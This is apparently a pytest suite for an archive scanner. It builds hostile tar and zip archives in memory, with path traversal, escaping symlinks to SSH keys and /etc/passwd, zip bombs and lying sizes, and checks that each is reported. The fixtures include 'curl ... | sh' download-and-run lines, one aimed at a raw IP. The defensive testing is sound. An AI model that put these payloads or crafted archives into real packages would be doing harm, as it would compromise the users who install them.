"""Hostile archives: traversal, links, devices, duplicates, odd names, bombs, nesting, damage.

Every archive is built here, in memory or under ``tmp_path``; nothing is ever extracted.
"""

from __future__ import annotations

import io
import lzma
import os
import random
import struct
import tarfile
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.analysis.archive import ArchiveError, Limits, read_archive
from stockade.analysis.interface import Archive
from stockade.analysis.model import Confidence, Kind, Severity
from tests.analysis.archive.build import (
    Unseekable,
    file,
    folder,
    gnu_sparse,
    link,
    node,
    tar,
    zip_,
)


@pytest.fixture(autouse=True)
def _no_extraction(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to extract fails the test loudly."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the archive reader must never extract")

    for owner in (tarfile.TarFile, zipfile.ZipFile):
        monkeypatch.setattr(owner, "extract", refuse)
        monkeypatch.setattr(owner, "extractall", refuse)


def by_rule(archive: Archive, rule: str) -> list[str]:
    return [f.path for f in archive.findings if f.rule == rule]


def snapshot(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


class TestPaths:
    def hostile_tar(self) -> bytes:
        return tar(
            [
                folder("evil-1.0"),
                file("evil-1.0/setup.py", "from setuptools import setup\nsetup()\n"),
                file("../evil", "owned\n"),
                file("/etc/passwd", "root::0:0::/root:/bin/sh\n"),
                file("evil-1.0/../../escape.py", "import os\n"),
                file("evil-1.0\\..\\..\\win.py", "x\n"),
                file("C:\\Windows\\System32\\evil.dll", "MZ"),
                file("evil-1.0/./ok.py", "y = 1\n"),
            ]
        )

    def test_traversal_and_absolute_paths_are_skipped_and_reported(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        source = tmp_path / "evil-1.0.tar.gz"
        source.write_bytes(self.hostile_tar())
        work = tmp_path / "work" / "deeper"
        work.mkdir(parents=True)
        monkeypatch.chdir(work)
        before = snapshot(tmp_path)

        archive = read_archive(source)

        assert snapshot(tmp_path) == before  # nothing written anywhere
        assert [m.path for m in archive.members] == ["evil-1.0/setup.py", "evil-1.0/ok.py"]
        assert archive.root == "evil-1.0"
        assert by_rule(archive, "archive-path-traversal") == [
            "../evil",
            "evil-1.0/../../escape.py",
            "evil-1.0\\..\\..\\win.py",
        ]
        assert by_rule(archive, "archive-absolute-path") == [
            "/etc/passwd",
            "C:\\Windows\\System32\\evil.dll",
        ]
        for finding in archive.findings:
            assert finding.kind is Kind.THREAT
            assert finding.severity is Severity.HIGH
            assert finding.snippet

    def test_zip_slip(self) -> None:
        data = zip_({"demo/__init__.py": "", "../../.bashrc": "curl x | sh\n", "/tmp/x": "y"})
        archive = read_archive(data, filename="demo-1.0-py3-none-any.whl")
        assert [m.path for m in archive.members] == ["demo/__init__.py"]
        assert by_rule(archive, "archive-path-traversal") == ["../../.bashrc"]
        assert by_rule(archive, "archive-absolute-path") == ["/tmp/x"]

    def test_dotdot_inside_names_is_not_traversal(self) -> None:
        data = tar([file("pkg-1.0/docs/..rst", "x"), file("pkg-1.0/a..b/c.py", "y")])
        archive = read_archive(data)
        assert archive.findings == []
        assert [m.relpath for m in archive.members] == ["docs/..rst", "a..b/c.py"]

    def test_control_characters_in_names(self) -> None:
        data = tar(
            [
                file("pkg-1.0/ok.py", "x"),
                file("pkg-1.0/\x1b[2Kinnocent.txt", "hidden"),
                file("pkg-1.0/line\nbreak.py", "x"),
            ]
        )
        archive = read_archive(data)
        assert [m.relpath for m in archive.members] == ["ok.py"]
        paths = by_rule(archive, "archive-bad-path")
        assert paths == ["pkg-1.0/\\x1b[2Kinnocent.txt", "pkg-1.0/line\\x0abreak.py"]

    def test_nul_in_a_zip_name(self) -> None:
        data = bytearray(zip_({"pkg/evil.py\x01.txt": "x", "pkg/ok.py": "y"}))
        data = bytearray(bytes(data).replace(b"evil.py\x01.txt", b"evil.py\x00.txt"))
        archive = read_archive(bytes(data))
        assert [m.relpath for m in archive.members] == ["ok.py"]
        assert by_rule(archive, "archive-bad-path") == ["pkg/evil.py\\x00.txt"]

    def test_over_long_names(self) -> None:
        data = tar([file("pkg/" + "a" * 300 + ".py", "x"), file("pkg/ok.py", "y")])
        archive = read_archive(data)
        assert [m.relpath for m in archive.members] == ["ok.py"]
        [finding] = archive.findings
        assert finding.rule == "archive-bad-path"
        assert len(finding.path) <= 200

    def test_bidi_names_are_reported_but_kept(self) -> None:
        name = "pkg/readme\u202eyp.txt"
        archive = read_archive(tar([file(name, "import os\n")]))
        assert [m.relpath for m in archive.members] == ["readme\u202eyp.txt"]
        assert by_rule(archive, "archive-bad-path") == [name]

    def test_non_ascii_names_are_fine(self) -> None:
        archive = read_archive(tar([file("pkg/données/naïve.py", "x"), file("pkg/日本.txt", "y")]))
        assert archive.findings == []
        assert [m.relpath for m in archive.members] == ["données/naïve.py", "日本.txt"]

    def test_findings_of_one_rule_are_capped(self) -> None:
        entries = [file(f"../evil{i}", "x") for i in range(150)]
        archive = read_archive(tar(entries))
        traversal = [f for f in archive.findings if f.rule == "archive-path-traversal"]
        assert len(traversal) == 101
        assert traversal[-1].path == ""
        assert traversal[-1].message.startswith("50 more findings")


class TestLinks:
    def test_links_are_skipped_escapes_are_threats(self) -> None:
        data = tar(
            [
                file("pkg-1.0/setup.py", "setup()\n"),
                file("pkg-1.0/LICENSE", "MIT\n"),
                link("pkg-1.0/docs/LICENSE", "../LICENSE"),
                link("pkg-1.0/etc", "../../etc"),
                link("pkg-1.0/key", "/home/user/.ssh/id_rsa"),
                link("pkg-1.0/setup2.py", "pkg-1.0/setup.py", hard=True),
                link("pkg-1.0/passwd", "../../etc/passwd", hard=True),
                file("pkg-1.0/etc/cron.d/evil", "* * * * * root sh\n"),
            ]
        )
        archive = read_archive(data)
        assert [m.relpath for m in archive.members] == ["setup.py", "LICENSE", "etc/cron.d/evil"]
        assert by_rule(archive, "archive-link") == ["pkg-1.0/docs/LICENSE", "pkg-1.0/setup2.py"]
        assert by_rule(archive, "archive-link-escape") == [
            "pkg-1.0/etc",
            "pkg-1.0/key",
            "pkg-1.0/passwd",
            "pkg-1.0/etc/cron.d/evil",  # written through the escaping link: kept, reported
        ]
        through = archive.findings[-1]
        assert "goes through the symbolic link 'pkg-1.0/etc'" in through.message
        kinds = {f.rule: (f.kind, f.severity) for f in archive.findings}
        assert kinds["archive-link"] == (Kind.CAPABILITY, Severity.LOW)
        assert kinds["archive-link-escape"] == (Kind.THREAT, Severity.HIGH)
        escape = next(f for f in archive.findings if f.path == "pkg-1.0/etc")
        assert escape.snippet == "pkg-1.0/etc -> ../../etc"

    def test_members_under_an_in_tree_link_are_not_escapes(self) -> None:
        data = tar(
            [
                folder("pkg-1.0/real"),
                link("pkg-1.0/alias", "real"),
                file("pkg-1.0/alias/x.py", "x"),
            ]
        )
        archive = read_archive(data)
        assert by_rule(archive, "archive-link") == ["pkg-1.0/alias"]
        assert by_rule(archive, "archive-link-escape") == []

    def test_zip_symlinks(self) -> None:
        data = zip_(
            {"pkg/a.py": "x", "pkg/key": "../../../.ssh/id_rsa", "pkg/b": "a.py"},
            modes={"pkg/key": 0o120777, "pkg/b": 0o120777},
        )
        archive = read_archive(data)
        assert [m.relpath for m in archive.members] == ["a.py"]
        assert by_rule(archive, "archive-link-escape") == ["pkg/key"]
        assert by_rule(archive, "archive-link") == ["pkg/b"]


class TestSpecialFiles:
    def test_devices_and_fifos(self) -> None:
        data = tar(
            [
                file("pkg/a.py", "x"),
                node("pkg/null", tarfile.CHRTYPE),
                node("pkg/sda", tarfile.BLKTYPE),
                node("pkg/pipe", tarfile.FIFOTYPE),
            ]
        )
        archive = read_archive(data)
        assert [m.relpath for m in archive.members] == ["a.py"]
        assert by_rule(archive, "archive-special-file") == ["pkg/null", "pkg/sda", "pkg/pipe"]
        assert all(f.kind is Kind.THREAT for f in archive.findings)

    def test_unknown_tar_member_types(self) -> None:
        data = tar([file("pkg/a.py", "x"), node("pkg/vol", b"V")], fmt=tarfile.GNU_FORMAT)
        archive = read_archive(data)
        assert by_rule(archive, "archive-special-file") == ["pkg/vol"]

    def test_zip_device_mode(self) -> None:
        data = zip_({"pkg/a.py": "x", "pkg/tty": ""}, modes={"pkg/tty": 0o020666})
        archive = read_archive(data)
        assert by_rule(archive, "archive-special-file") == ["pkg/tty"]


class TestDuplicates:
    def test_later_copy_with_different_content_is_reported_and_skipped(self) -> None:
        benign = "from setuptools import setup\nsetup(name='demo')\n"
        evil = "import os\nos.system('curl http://45.61.136.22/x | sh')\n"
        data = tar([file("demo-1.0/setup.py", benign), file("demo-1.0/setup.py", evil)])
        archive = read_archive(data)
        [member] = archive.members
        assert member.text() == benign
        [finding] = archive.findings
        assert finding.rule == "archive-duplicate"
        assert finding.path == "demo-1.0/setup.py"
        assert finding.severity is Severity.HIGH and finding.confidence is Confidence.HIGH
        assert finding.kind is Kind.THREAT

    def test_identical_copies_are_only_a_note(self) -> None:
        data = tar([file("demo-1.0/PKG-INFO", "Name: x\n"), file("demo-1.0/PKG-INFO", "Name: x\n")])
        archive = read_archive(data)
        assert len(archive.members) == 1
        [finding] = archive.findings
        assert finding.severity is Severity.INFO
        assert "same content" in finding.message

    def test_zip_duplicates(self) -> None:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("demo/__init__.py", "x = 1\n")
            archive.writestr("demo/__init__.py", "import base64\n")
        result = read_archive(buf.getvalue(), filename="demo-1.0-py3-none-any.whl")
        assert [m.data for m in result.members] == [b"x = 1\n"]
        assert by_rule(result, "archive-duplicate") == ["demo/__init__.py"]


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A zip whose one member is 1 GiB of zeros (about 1 MB on disk), built in chunks."""
    target = tmp_path_factory.mktemp("bomb") / "bomb-1.0-py3-none-any.whl"
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("bomb/__init__.py", "")
        info = zipfile.ZipInfo("bomb/data.py", (2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as out:
            for _ in range(1024):
                out.write(zeros)
        archive.writestr("bomb/after.py", "y = 2\n")
    return target


class TestBombs:
    def test_zip_bomb_costs_at_most_a_member_limit(self, zip_bomb: Path) -> None:
        assert zip_bomb.stat().st_size < 2 << 20
        tracemalloc.start()
        try:
            archive = read_archive(zip_bomb)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        bomb = archive.get("bomb/data.py")
        assert bomb is not None
        assert bomb.size == 1 << 30
        assert len(bomb.data) <= Limits().max_member_bytes
        assert not bomb.complete
        assert by_rule(archive, "archive-bomb") == ["bomb/data.py"]
        after = archive.get("bomb/after.py")
        assert after is not None and after.data == b"y = 2\n"
        assert peak < 64 << 20

    def test_zip_bomb_not_wanted(self, zip_bomb: Path) -> None:
        archive = read_archive(zip_bomb, wants=lambda r: False, limits=Limits(head_bytes=100))
        bomb = archive.get("bomb/data.py")
        assert bomb is not None and bomb.data == bytes(100)
        assert by_rule(archive, "archive-bomb") == ["bomb/data.py"]

    def test_streamed_zip_bomb_without_directory(self) -> None:
        """Sizes only after the data and no central directory: the ratio is measured."""
        sink = Unseekable()
        with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("pkg/a.py", "x = 1\n")
            with archive.open("pkg/blob.py", "w") as out:
                for _ in range(32):
                    out.write(bytes(1 << 20))
            archive.writestr("pkg/z.py", "z = 1\n")
        data = sink.buf.getvalue()
        cut = data[: data.index(b"PK\x01\x02")]  # drop the whole central directory
        archive_ = read_archive(cut)
        assert by_rule(archive_, "archive-bomb") == ["pkg/blob.py"]
        blob = archive_.get("blob.py")
        assert blob is not None and not blob.complete
        assert len(blob.data) <= Limits().max_member_bytes  # read before its size was known
        assert archive_.get("a.py") is not None
        assert archive_.get("z.py") is None  # past the bomb: not inflated to reach it

    def test_streamed_zip_without_directory_is_walked(self) -> None:
        sink = Unseekable()
        with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            for i in range(3):
                with archive.open(f"pkg/m{i}.py", "w") as out:
                    out.write(b"value = %d\n" % i * 1000)
        data = sink.buf.getvalue()
        archive_ = read_archive(data[: data.index(b"PK\x01\x02")])
        assert [m.data for m in archive_.members] == [b"value = %d\n" % i * 1000 for i in range(3)]
        assert all(m.complete and m.size == 10_000 for m in archive_.members)
        assert by_rule(archive_, "archive-corrupt") == [""]

    def test_tar_gz_stream_bomb(self) -> None:
        data = tar(
            [file("pkg/a.py", "x"), file("pkg/zeros.bin", bytes(32 << 20)), file("pkg/b.py", "")]
        )
        assert len(data) < 64 << 10
        archive = read_archive(data, limits=Limits(max_member_bytes=1 << 20))
        assert by_rule(archive, "archive-bomb") == [""]
        assert [m.relpath for m in archive.members] == ["a.py", "zeros.bin"]
        zeros = archive.members[1]
        assert len(zeros.data) == 1 << 20 and not zeros.complete

    def test_many_members_that_add_up_to_a_bomb(self) -> None:
        data = zip_({f"pkg/part{i}.bin": bytes(1 << 20) for i in range(10)})
        archive = read_archive(data, limits=Limits(max_total_bytes=1 << 20))
        assert by_rule(archive, "archive-bomb") == [""]
        assert "in all" in archive.findings[0].message
        assert sum(len(m.data) for m in archive.members) <= 1 << 20

    def test_zero_padded_shared_library_is_not_a_bomb(self) -> None:
        """Modern manylinux wheels align ELF segments to 2 MiB: tiny libraries of mostly zeros
        that compress beyond 200:1."""
        library = b"\x7fELF\x02\x01\x01" + bytes(2_100_000) + b"code" * 2000
        data = zip_({"pillow.libs/libXau-154567c4.so.6.0.0": library, "PIL/__init__.py": ""})
        archive = read_archive(data, filename="pillow-13.0.0-cp311-cp311-manylinux.whl")
        assert archive.findings == []
        member = archive.get("pillow.libs/libXau-154567c4.so.6.0.0")
        assert member is not None and member.complete

    def test_hostile_fixtures_inside_nested_archives_are_mild(self) -> None:
        """distlib's own test suite ships archives with traversal and escaping links."""
        bad = tar(
            [file("../file4.txt", "x"), file("/tmp/file5.txt", "y"), link("tmp", "../../tmp")]
        )
        data = tar(
            [
                file("distlib-0.4.4/PKG-INFO", "Name: distlib\n"),
                file("distlib-0.4.4/tests/bad.tar.gz", bad),
            ]
        )
        archive = read_archive(data)
        rules = sorted(f.rule for f in archive.findings)
        assert rules == ["archive-absolute-path", "archive-link-escape", "archive-path-traversal"]
        for finding in archive.findings:
            assert finding.severity is Severity.LOW and finding.confidence is Confidence.LOW
            assert finding.path.startswith("distlib-0.4.4/tests/bad.tar.gz!")
            assert "nested archive" in finding.message
        top = read_archive(bad)
        assert all(f.severity is Severity.HIGH for f in top.findings)

    def test_compressible_but_honest_files_are_not_bombs(self) -> None:
        text = b"".join(b"line %d of a generated table\n" % i for i in range(150_000))
        data = zip_(
            {
                "pkg/zeros.bin": bytes(800_000),  # ratio ~1000 but under 1 MiB
                "pkg/table.csv": text,  # 4 MB at an ordinary ratio
            }
        )
        archive = read_archive(data)
        assert archive.findings == []
        tar_archive = read_archive(tar([file("pkg/table.csv", text)]))
        assert tar_archive.findings == []


class TestXzMemory:
    def test_xz_claiming_a_four_gigabyte_dictionary_is_refused(self) -> None:
        plain = tar([file("pkg/a.py", "x = 1\n")], compression="")
        data = bytearray(lzma.compress(plain))
        header = 12  # the block header follows the 12-byte stream header
        length = (data[header] + 1) * 4
        assert data[header + 2 : header + 4] == b"\x21\x01"  # LZMA2, one property byte
        data[header + 4] = 40  # dictionary size: 4 GiB - 1
        crc = zlib.crc32(bytes(data[header : header + length - 4]))
        struct.pack_into("<I", data, header + length - 4, crc)
        tracemalloc.start()
        try:
            with pytest.raises(ArchiveError, match="truncated or damaged xz data"):
                read_archive(bytes(data), filename="pkg.tar.xz")
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 16 << 20

    def test_truncated_xz(self) -> None:
        rnd = random.Random(5)
        data = tar([file(f"pkg/m{i}.bin", rnd.randbytes(20_000)) for i in range(5)], "xz")
        archive = read_archive(data[: len(data) // 2])
        assert 1 <= len(archive.members) <= 3
        assert by_rule(archive, "archive-corrupt") == [""]


class TestSparseAndLyingSizes:
    def test_sparse_two_gigabyte_member(self) -> None:
        two_gb = 2 << 30
        data = gnu_sparse("pkg/huge.bin", two_gb, [(0, b"HEAD" * 128), (two_gb - 512, b"T" * 512)])
        assert len(data) < 4096
        tracemalloc.start()
        try:
            archive = read_archive(data, limits=Limits(max_member_bytes=1 << 20))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        member = archive.get("huge.bin")
        assert member is not None
        assert member.size == two_gb
        assert len(member.data) == 1 << 20 and not member.complete
        assert member.data[:512] == b"HEAD" * 128
        assert member.data[512:] == bytes((1 << 20) - 512)
        assert by_rule(archive, "archive-member-truncated") == ["pkg/huge.bin"]
        assert peak < 64 << 20

    @pytest.mark.parametrize("compression", ["", "gz"])
    def test_header_claiming_two_gigabytes_then_a_short_stream(self, compression: str) -> None:
        info = tarfile.TarInfo("pkg/claims.bin")
        info.size = 2 << 30
        plain = info.tobuf(format=tarfile.GNU_FORMAT) + b"short" * 100
        before = file("pkg/a.py", "x")
        prefix = before[0].tobuf() + before[1] + bytes(511)
        raw = prefix + plain
        if compression:
            import gzip

            raw = gzip.compress(raw)
        tracemalloc.start()
        try:
            archive = read_archive(raw, limits=Limits(max_member_bytes=1 << 20))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert [m.relpath for m in archive.members] == ["a.py", "claims.bin"]
        claims = archive.members[1]
        assert claims.size == 2 << 30 and not claims.complete
        assert by_rule(archive, "archive-corrupt") == [""]
        assert peak < 16 << 20

    def test_extended_header_claiming_too_much(self) -> None:
        ok = file("pkg/a.py", "x")
        pax = tarfile.TarInfo("././@PaxHeader")
        pax.type = tarfile.XHDTYPE
        pax.size = 64 << 20
        raw = ok[0].tobuf() + ok[1] + bytes(511) + pax.tobuf() + bytes(4096)
        archive = read_archive(raw)
        assert [m.relpath for m in archive.members] == ["a.py"]
        [finding] = archive.findings
        assert finding.rule == "archive-corrupt"
        assert "extended header" in finding.message

    def test_encrypted_zip_member(self) -> None:
        data = bytearray(zip_({"pkg/a.py": "x = 1\n", "pkg/secret.py": "payload"}))
        local = data.index(b"pkg/secret.py") - 30  # name follows the 30-byte local header
        central = data.index(b"pkg/secret.py", local + 31) - 46  # and the 46-byte entry
        assert (
            data[local : local + 4] == b"PK\x03\x04"
            and data[central : central + 4] == b"PK\x01\x02"
        )
        for flag_at in (local + 6, central + 8):
            (flags,) = struct.unpack_from("<H", data, flag_at)
            struct.pack_into("<H", data, flag_at, flags | 1)  # "encrypted"
        archive = read_archive(bytes(data))
        assert archive.get("a.py") is not None
        assert by_rule(archive, "archive-corrupt") == ["pkg/secret.py"]
        assert "encrypted" in archive.findings[0].message


class TestManyMembers:
    def test_hundred_thousand_tiny_members_stop_at_the_limit(self) -> None:
        from tests.analysis.archive.build import many_members_tgz

        data = many_members_tgz(100_000)
        archive = read_archive(data, wants=lambda r: False)
        assert len(archive.members) == Limits().max_members
        assert by_rule(archive, "archive-too-many-members") == [""]
        assert archive.members[-1].relpath == f"m{Limits().max_members - 1:07d}.txt"

    def test_zip_declaring_too_many_entries_is_not_indexed(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        data = zip_({f"pkg/m{i}.py": f"x = {i}\n" for i in range(300)})

        def no_index(*args: object, **kwargs: object) -> None:
            raise AssertionError("zipfile must not index a directory over the limit")

        monkeypatch.setattr(zipfile, "ZipFile", no_index)
        archive = read_archive(data, limits=Limits(max_members=100))
        assert len(archive.members) == 100
        assert archive.members[0].data == b"x = 0\n"
        assert by_rule(archive, "archive-too-many-members") == [""]

    def test_entries_other_than_files_count_too(self) -> None:
        entries = [folder(f"pkg/d{i}") for i in range(1300)]
        archive = read_archive(tar(entries), limits=Limits(max_members=100))
        assert by_rule(archive, "archive-too-many-members") == [""]

    def test_under_the_limit_is_fine(self) -> None:
        archive = read_archive(tar([file(f"pkg/m{i}.py", "") for i in range(50)]))
        assert len(archive.members) == 50 and archive.findings == []


class TestTime:
    def fake_clock(self) -> Iterator[float]:
        now = 0.0
        while True:
            yield now
            now += 1.0

    @pytest.mark.parametrize("kind", ["tar", "zip"])
    def test_reading_stops_when_the_budget_is_spent(self, kind: str) -> None:
        files = {f"pkg/m{i}.py": f"x = {i}\n" for i in range(200)}
        data = tar([file(k, v) for k, v in files.items()]) if kind == "tar" else zip_(files)
        ticks = self.fake_clock()
        archive = read_archive(data, clock=lambda: next(ticks), limits=Limits(max_seconds=50))
        assert 0 < len(archive.members) < 50
        assert by_rule(archive, "archive-timeout") == [""]
        assert archive.findings[-1].rule == "archive-timeout"

    def test_no_timeout_within_budget(self) -> None:
        archive = read_archive(tar([file("pkg/a.py", "x")]), clock=lambda: 0.0)
        assert archive.findings == []


class TestNesting:
    def test_beyond_max_depth_is_a_plain_member(self) -> None:
        deepest = zip_({"deep/x.py": "import os\n"})
        middle = zip_({"mid/deep-1.0-py3-none-any.whl": deepest})
        data = tar([file("pkg-1.0/PKG-INFO", "x"), file("pkg-1.0/vendor/mid.zip", middle)])
        archive = read_archive(data, limits=Limits(max_depth=1))
        paths = [m.path for m in archive.members]
        assert paths == [
            "pkg-1.0/PKG-INFO",
            "pkg-1.0/vendor/mid.zip",
            "pkg-1.0/vendor/mid.zip!mid/deep-1.0-py3-none-any.whl",
        ]
        whl = archive.members[2]
        assert whl.relpath == "vendor/mid.zip!deep-1.0-py3-none-any.whl"
        assert whl.data.startswith(b"PK\x03\x04")
        assert by_rule(archive, "archive-nesting") == [
            "pkg-1.0/vendor/mid.zip!mid/deep-1.0-py3-none-any.whl"
        ]

    def test_default_depth_reads_two_levels(self) -> None:
        third = zip_({"t/x.py": "3"})
        second = zip_({"s/third.zip": third, "s/y.py": "2"})
        first = zip_({"f/second.zip": second})
        archive = read_archive(tar([file("p/first.zip", first)]))
        paths = [m.path for m in archive.members]
        assert "p/first.zip!f/second.zip!s/y.py" in paths
        assert "p/first.zip!f/second.zip!s/third.zip" in paths
        assert not any("third.zip!" in p for p in paths)
        assert by_rule(archive, "archive-nesting") == ["p/first.zip!f/second.zip!s/third.zip"]

    def test_nested_archive_over_the_member_limit_is_not_opened(self) -> None:
        inner = zip_({"big/data.txt": os.urandom(50_000)}, compression=zipfile.ZIP_STORED)
        archive = read_archive(
            tar([file("p/inner.zip", inner)]), limits=Limits(max_member_bytes=10_000)
        )
        assert [m.path for m in archive.members] == ["p/inner.zip"]
        assert by_rule(archive, "archive-nesting") == ["p/inner.zip"]

    def test_nested_members_share_the_byte_budget(self) -> None:
        inner = zip_({f"i/m{i}.py": bytes([97 + i]) * 3000 for i in range(3)})
        data = tar([file("p/inner.whl", inner), file("p/after.py", "z" * 3000)])
        archive = read_archive(data, limits=Limits(max_total_bytes=5000))
        assert sum(len(m.data) for m in archive.members) <= 5000
        after = archive.get("after.py")
        assert after is not None and after.data == b"" and not after.complete
        assert by_rule(archive, "archive-member-truncated") == ["p/inner.whl!i/m1.py"]

    def test_nested_members_share_the_member_limit(self) -> None:
        inner = zip_({f"i/m{i}.py": "" for i in range(20)})
        archive = read_archive(tar([file("p/inner.whl", inner)]), limits=Limits(max_members=10))
        assert len(archive.members) == 10
        assert by_rule(archive, "archive-too-many-members") == [""]
